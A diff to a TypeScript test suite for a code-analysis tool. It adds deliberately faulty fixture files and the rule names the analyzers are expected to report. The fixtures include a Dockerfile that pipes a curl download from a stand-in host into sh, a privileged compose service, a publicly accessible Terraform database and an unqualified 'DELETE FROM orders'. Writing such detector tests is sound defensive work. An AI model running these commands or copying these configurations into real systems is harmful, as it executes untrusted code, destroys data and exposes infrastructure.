@@ -46,6 +46,13 @@ const files: readonly SourceFile[] = [
     path: "app/orders.py",
     text: "import requests\n\ndef f(u, a=[]):\n    return requests.get(u, verify=False, timeout=9)\n",
   },
+  { path: "Dockerfile", text: "FROM node\nRUN curl https://x.example/i.sh | sh\nUSER node\n" },
+  { path: "deploy/compose.yml", text: "services:\n  web:\n    privileged: true\n" },
+  {
+    path: "main.tf",
+    text: 'resource "aws_db_instance" "main" {\n  publicly_accessible = true\n}\n',
+  },
+  { path: "clean-up.sql", text: "DELETE FROM orders;\n" },
   { path: "README.md", text: "# Title\n" },
   { path: "logo.svg", text: "<svg/>\n" },
 ];
@@ -69,13 +76,23 @@ describe("the analyzers", () => {
       "rules files",
       "ruff files",
       "pipelines files",
+      "dockerfiles files",
+      "manifests files",
+      "terraform files",
+      "sql files",
       "change-risks change",
+      "callers change",
+      "migrations change",
+      "dependencies change",
     ]);
   });
 
   it("find each its own faults, in well-formed findings", async () => {
     const found = await analyzeAll(files);
     expect(found.map(({ rule }) => rule).toSorted()).toEqual([
+      "bash/download-piped-to-shell",
+      "compose/privileged",
+      "docker/unpinned-base",
       "javascript/no-eval",
       "javascript/use-isnan",
       "pipelines/missing-script",
@@ -85,6 +102,9 @@ describe("the analyzers", () => {
       "python/mutable-argument-default",
       "python/tls-verification-disabled",
       "secrets/github-token",
+      "sql/delete-everything",
+      "terraform/public-database",
+      "terraform/unencrypted-storage",
     ]);
     for (const finding of found) {
       expect(finding.rule).toMatch(/^[a-z]+\/[a-z0-9-]+$/);
@@ -145,6 +165,10 @@ describe("the analyzers", () => {
           "x.py",
           "x.go",
           "x.php",
+          "x.tf",
+          "x.sql",
+          "Dockerfile",
+          "compose.yml",
           "bitbucket-pipelines.yml",
           "__proto__.js",
           "constructor",
@@ -153,7 +177,7 @@ describe("the analyzers", () => {
           ...names.map((name) => ({ path: `sub/${name}`, text })),
           ...files,
         ]);
-        expect(found.filter(({ path: name }) => !name.startsWith("sub/"))).toHaveLength(9);
+        expect(found.filter(({ path: name }) => !name.startsWith("sub/"))).toHaveLength(15);
         for (const { range, path: name } of found) {
           const lines = name.startsWith("sub/") ? text.split("\n").length : 99;
           expect(range === null || range.end <= lines).toBe(true);
